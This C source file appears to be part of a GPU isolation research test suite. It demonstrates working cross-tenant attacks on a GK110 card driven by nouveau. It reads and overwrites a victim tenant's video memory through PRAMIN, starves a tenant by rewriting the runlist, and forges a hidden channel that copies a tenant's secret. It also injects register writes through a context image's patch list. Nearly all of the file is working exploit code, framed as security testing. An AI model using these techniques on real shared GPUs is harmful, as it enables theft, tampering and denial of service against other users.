// SPDX-License-Identifier: GPL-2.0-only
/* Attacks on other users of the card while nouveau drives it. */
#include "attacks.h"
#include "foreign.h"

#include <stdlib.h>
#include <unistd.h>
#include <linux/bitfield.h>

#include <gk110/fifo.h>
#include <gk110/ram.h>

#include "bare/chan.h"
#include "client.h"
#include "methods.h"
#include "pattern.h"
#include "tap.h"
#include "tenant.h"

enum { RUN_MS = 60000, SETTLE_MS = 100, STARVED_MS = 700 };

uint64_t instance_of(struct bare_gpu *g, int chid)
{
	return (uint64_t)FIELD_GET(PCCSR_INST_PTR, bare_read(g, PCCSR_INST(chid))) << 12;
}

static void start_tenant(struct tenant *t)
{
	if (!tenant_start(t))
		bail("the tenant's own work fails");
}

void attack_tenant_memory(struct machine *m)
{
	struct bare_gpu *g = &m->gpu;
	uint8_t stolen[TENANT_SECRET_BYTES];
	uint64_t addr = 0, left = 0, inst;
	enum bare_target t = BARE_VRAM;
	struct tenant victim;
	bool found, same;

	start_tenant(&victim);
	inst = instance_of(g, victim.shared->chid);
	found = bare_walk(g, inst, victim.shared->secret_va, &t, &addr, &left);
	tap_result(found && t == BARE_VRAM && left >= sizeof(stolen),
		   "attack works: PRAMIN follows a tenant's instance block and page tables",
		   "channel %d, instance %llx, VRAM %llx", victim.shared->chid,
		   (unsigned long long)inst, (unsigned long long)addr);
	if (found) {
		bare_mem_read(g, t, addr, stolen, sizeof(stolen));
		same = !memcmp(stolen, (void *)victim.shared->secret, sizeof(stolen));
		tap_result(same, "attack works: PRAMIN reads a tenant's video memory", NULL);
		bare_mem_write32(g, t, addr + 128, 0x600df00d);
	}
	victim.shared->order = TENANT_WORK;
	tenant_await(&victim, TENANT_WORKING);
	tap_result(*(volatile uint32_t *)(victim.shared->secret + 128) == 0x600df00d,
		   "attack works: PRAMIN changes a tenant's video memory", NULL);
	tap_result(tenant_end(&victim), "the tenant noticed nothing else", NULL);
}

void current_list(struct bare_gpu *g, unsigned int runlist, struct list *l)
{
	uint32_t base = bare_read(g, PFIFO_ENG_RUNLIST_BASE(runlist));

	l->runlist = runlist;
	l->count = FIELD_GET(PFIFO_RUNLIST_COUNT, bare_read(g, PFIFO_ENG_RUNLIST(runlist)));
	l->addr = (uint64_t)FIELD_GET(PFIFO_RUNLIST_ADDR, base) << 12;
	l->target = FIELD_GET(PFIFO_RUNLIST_TARGET, base);
}

/* Return true when the tenant does a round (tenant.c) more. */
static bool goes_on(struct tenant *t)
{
	uint64_t before = t->shared->rounds;
	unsigned int ms;

	for (ms = 0; ms < RUN_MS && t->shared->rounds == before; ms++)
		usleep(1000);
	return t->shared->rounds != before;
}

/*
 * Return true when the tenant has a job that is not done, and has counted none for SETTLE_MS. The
 * channel that is loaded may go on to the end of its turn, so that takes a while.
 */
static bool stops(struct tenant *t)
{
	uint64_t before;
	unsigned int ms;

	for (ms = 0; ms < RUN_MS; ms += SETTLE_MS) {
		before = t->shared->rounds;
		usleep(SETTLE_MS * 1000);
		if (t->shared->rounds == before && t->shared->kicks == before + 1)
			return true;
	}
	return false;
}

void attack_tenant_runlist(struct machine *m)
{
	struct bare_gpu *g = &m->gpu;
	bool normal, starved, after;
	struct tenant victim;
	uint64_t stopped_at;
	struct list l;

	start_tenant(&victim);
	victim.shared->order = TENANT_WORK;
	tenant_await(&victim, TENANT_WORKING);
	current_list(g,
		     FIELD_GET(PCCSR_CHAN_RUNLIST, bare_read(g, PCCSR_CHAN(victim.shared->chid))),
		     &l);
	normal = goes_on(&victim);
	bare_runlist_at(g, l.runlist, l.target, l.addr, 0);
	starved = stops(&victim);
	stopped_at = victim.shared->rounds;
	usleep(STARVED_MS * 1000);
	/* its process may have been away, and counts what was done before */
	starved &= victim.shared->rounds <= stopped_at + 1;
	stopped_at = victim.shared->rounds;
	bare_runlist_at(g, l.runlist, l.target, l.addr, l.count);
	after = goes_on(&victim);
	tap_result(normal && starved,
		   "attack works: a runlist without a tenant's channels starves it",
		   "runlist %u of %u entries, stopped at round %llu", l.runlist, l.count,
		   (unsigned long long)stopped_at);
	tap_result(after, "with the old runlist the tenant goes on", NULL);
	tap_result(tenant_end(&victim), "and all its copies were right", NULL);
}

uint64_t own_vram(struct bare_gpu *g, struct gpu_chan *own, struct nouveau_bo *bo)
{
	uint64_t inst = instance_of(g, own->chid), first = 0, off, addr, left;
	enum bare_target t;

	for (off = 0; off < OWN_BYTES; off += left) {
		if (!bare_walk(g, inst, bo->offset + off, &t, &addr, &left) || t != BARE_VRAM)
			bail("own buffer not found in own page tables");
		if (!off)
			first = addr;
		else if (addr != first + off)
			bail("own buffer is not contiguous");
	}
	return first;
}

bool submit_with(struct bare_gpu *g, const struct list *l, uint32_t extra)
{
	uint64_t at = bare_vram(g, 0x1000, 0x1000);
	uint32_t entry[2];
	unsigned int i;

	for (i = 0; i < l->count; i++) {
		bare_mem_read(g, l->target, l->addr + 8 * i, entry, 8);
		bare_mem_write(g, BARE_VRAM, at + 8 * i, entry, 8);
	}
	bare_mem_write32(g, BARE_VRAM, at + 8 * i, extra);
	bare_mem_write32(g, BARE_VRAM, at + 8 * i + 4, 0);
	return bare_runlist_at(g, l->runlist, BARE_VRAM, at, l->count + 1);
}

/*
 * A channel that no driver knows joins the driver's runlist. Its page tables reach into the
 * tenant's memory.
 */
void attack_tenant_channel(struct machine *m)
{
	enum { LOOT_VA = BARE_VA_FREE, SECRET_VA = BARE_VA_FREE + 0x1000 };
	struct bare_gpu *g = &m->gpu;
	struct bare_chan_config cfg = { .id = FORGED_ID };
	uint64_t addr = 0, left, loot_bus;
	uint8_t *loot = bare_host(g, 4096, &loot_bus);
	enum bare_target t = BARE_VRAM;
	struct nouveau_bo *bo;
	struct bare_space s;
	struct bare_chan c;
	struct tenant victim;
	struct gpu_chan own;
	struct list l;
	struct gpu gpu;
	bool found, ran;

	start_tenant(&victim);
	gpu_open(&gpu, NULL);
	chan_must_open(&gpu, ENGINE_CE, &own);
	bo = bo_new(&gpu, NOUVEAU_BO_VRAM, OWN_BYTES);
	g->vram_next = own_vram(g, &own, bo);
	found = bare_walk(g, instance_of(g, victim.shared->chid), victim.shared->secret_va, &t,
			  &addr, &left);
	cfg.runlist = FIELD_GET(PCCSR_CHAN_RUNLIST, bare_read(g, PCCSR_CHAN(own.chid)));
	current_list(g, cfg.runlist, &l);
	bare_space_create(g, &s);
	bare_space_map(g, &s, LOOT_VA, BARE_HOST, loot_bus);
	bare_space_map(g, &s, SECRET_VA, t, addr & ~4095ull);
	bare_chan_create(g, &s, &cfg, &c);
	submit_with(g, &l, FORGED_ID);
	bare_copy(&c, SECRET_VA + addr % 4096, LOOT_VA, 2048, 0);
	ran = bare_run(&c, RUN_MS);
	tap_result(
		found && ran && !memcmp(loot, (void *)victim.shared->secret, 2048),
		"attack works: a forged channel joins the driver's runlist and reads a tenant's memory",
		"runlist %u, ran %d", cfg.runlist, ran);
	bare_runlist_at(g, l.runlist, l.target, l.addr, l.count);
	bare_chan_destroy(&c);
	victim.shared->order = TENANT_WORK;
	tap_result(tenant_await(&victim, TENANT_WORKING) && goes_on(&victim) && tenant_end(&victim),
		   "the tenant goes on afterwards", NULL);
	bo_free(&bo);
	chan_close(&own);
	gpu_close(&gpu);
}

/* ------------------------------------------------------------------ patch list */

/*
 * Byte offsets in a context image's head, for nouveau's microcode (gk110/facts.md): number of
 * pairs in the list, and the list's address >> 8.
 */
enum { CTX_COUNT = 0, CTX_LIST = 4 };

static bool add_pair(struct bare_gpu *g, uint64_t inst, uint32_t reg, uint32_t value)
{
	uint32_t lo = bare_mem_read32(g, BARE_VRAM, inst + RAMIN_GR_CTX), count,
		 pair[2] = { reg, value };
	uint32_t hi = bare_mem_read32(g, BARE_VRAM, inst + RAMIN_GR_CTX + 4);
	uint64_t image, list, left;
	enum bare_target t, list_t;

	if (!bare_walk(g, inst, (uint64_t)hi << 32 | (lo & RAMIN_CTX_ADDR_LO), &t, &image, &left))
		return false;
	count = bare_mem_read32(g, t, image + CTX_COUNT);
	if (!count || count > 200)
		return false;
	if (!bare_walk(g, inst, (uint64_t)bare_mem_read32(g, t, image + CTX_LIST) << 8, &list_t,
		       &list, &left) ||
	    left < 8 * (count + 1))
		return false;
	bare_mem_write(g, list_t, list + 8 * count, pair, sizeof(pair));
	bare_mem_write32(g, t, image + CTX_COUNT, count + 1);
	bare_flush(g);
	return true;
}

/* Have the context switch firmware of the graphics engine write @value to @reg. */
static void patch_register(struct machine *m, struct gpu *gpu, uint32_t reg, uint32_t value,
			   const char *what)
{
	struct bare_gpu *g = &m->gpu;
	struct nouveau_object *object;
	struct gpu_chan c;
	uint32_t before, after;
	bool added;
	int ret;

	chan_must_open(gpu, ENGINE_GR, &c);
	object = chan_object(&c, CLASS_INLINE);
	if (!object)
		bail("no graphics object");
	before = bare_read(g, reg);
	added = add_pair(g, instance_of(g, c.chid), reg, value);
	job_begin(&c, 16);
	emit(&c, SUBC_INLINE, SET_OBJECT, CLASS_INLINE);
	emit(&c, SUBC_INLINE, GR_WAIT_FOR_IDLE, 0);
	ret = job_run(&c);
	after = bare_read(g, reg);
	bare_write(g, reg, before);
	tap_result(added && !ret && before != value && after == value, what,
		   "register %06x: %08x -> %08x, list found %d", reg, before, after, added);
	nouveau_object_del(&object);
	chan_close(&c);
}

void attack_patch_list(struct machine *m)
{
	struct gpu gpu;

	gpu_open(&gpu, NULL);
	/* Neither register belongs to the graphics engine. patch_register() puts both back. */
	patch_register(
		m, &gpu, PFIFO_ENG_TIMESLICE(6), 0x10005042,
		"attack works: the patch list of a context image writes a register of PFIFO");
	patch_register(
		m, &gpu, PCCSR_INST(FORGED_ID), 0x00123456,
		"attack works: the patch list of a context image writes an instance pointer of the channel table");
	gpu_close(&gpu);
}
